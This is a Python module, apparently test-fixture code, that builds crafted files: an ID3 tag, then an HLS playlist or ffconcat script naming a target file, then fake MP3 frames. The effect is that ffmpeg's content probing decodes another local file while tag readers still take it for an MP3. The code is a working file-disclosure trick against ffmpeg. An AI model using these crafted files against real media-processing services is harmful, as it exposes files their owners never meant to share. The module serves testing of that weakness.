"""Files crafted to make a content-probing ffmpeg read another file: an ID3 tag, then an HLS playlist
or a concat script naming the target, then fake MPEG frames so a tag reader still calls it an MP3.

Left to probe, ffmpeg skips the ID3 tag, sees ``#EXTM3U`` (or ``ffconcat version 1.0``) and decodes
the file the text names: the target's length and loudness, and its audio, as if they were this file's.
"""

from __future__ import annotations

import os
from pathlib import Path

# Which way each crafted file names the target.
VARIANTS = ("hls-file-url", "hls-relative", "concat")


def id3_tag(title: str = "Night Owls 21 Nov") -> bytes:
    """A small, valid ID3v2.4 tag holding a title (and 64 bytes of padding)."""
    text = b"\x03" + title.encode()
    frame = b"TIT2" + _synchsafe(len(text)) + b"\x00\x00" + text
    body = frame + b"\x00" * 64
    return b"ID3\x04\x00\x00" + _synchsafe(len(body)) + body


def _synchsafe(n: int) -> bytes:
    return bytes([(n >> 21) & 0x7F, (n >> 14) & 0x7F, (n >> 7) & 0x7F, n & 0x7F])


def fake_frames(count: int = 8) -> bytes:
    """MPEG-1 Layer III frame headers (128 kbit/s, 44.1 kHz) with filler: mutagen syncs to them;
    no NUL, CR or LF, so a playlist or concat parser takes the lot for one comment line."""
    return (b"\xff\xfb\x90\x64" + b"A" * 413) * count


def playlist(target: str) -> bytes:
    return (b"#EXTM3U\n#EXT-X-TARGETDURATION:40\n#EXTINF:34,\n" + target.encode()
            + b"\n#EXT-X-ENDLIST\n#")


def concat_script(target_name: str) -> bytes:
    # the concat demuxer's safe mode allows a plain name beside the script
    return b"ffconcat version 1.0\nfile " + target_name.encode() + b"\n#"


def crafted(variant: str, where: Path, target: Path) -> bytes:
    """The bytes of a crafted file to be written at ``where`` that plays ``target``."""
    if variant == "hls-file-url":
        text = playlist(f"file:{target}")
    elif variant == "hls-relative":
        text = playlist(os.path.relpath(target, where.parent))
    elif variant == "concat":
        assert target.parent == where.parent, "the concat demuxer reads only a file beside the script"
        text = concat_script(target.name)
    else:
        raise ValueError(variant)
    return id3_tag() + text + fake_frames()


def write_crafted(variant: str, where: Path, target: Path) -> Path:
    where.parent.mkdir(parents=True, exist_ok=True)
    where.write_bytes(crafted(variant, where, target))
    return where


def mp3_after_padding(mp3: bytes, padding: int = 300) -> bytes:
    """A real MP3 whose ID3 tag is followed by zero bytes before the first frame (some taggers)."""
    assert mp3[:3] == b"ID3"
    size = 10 + ((mp3[6] << 21) | (mp3[7] << 14) | (mp3[8] << 7) | mp3[9])
    return mp3[:size] + b"\x00" * padding + mp3[size:]


def id3_before(data: bytes) -> bytes:
    """Another format's file with an ID3v2 tag stuck in front (some taggers do this to FLAC)."""
    return id3_tag() + data

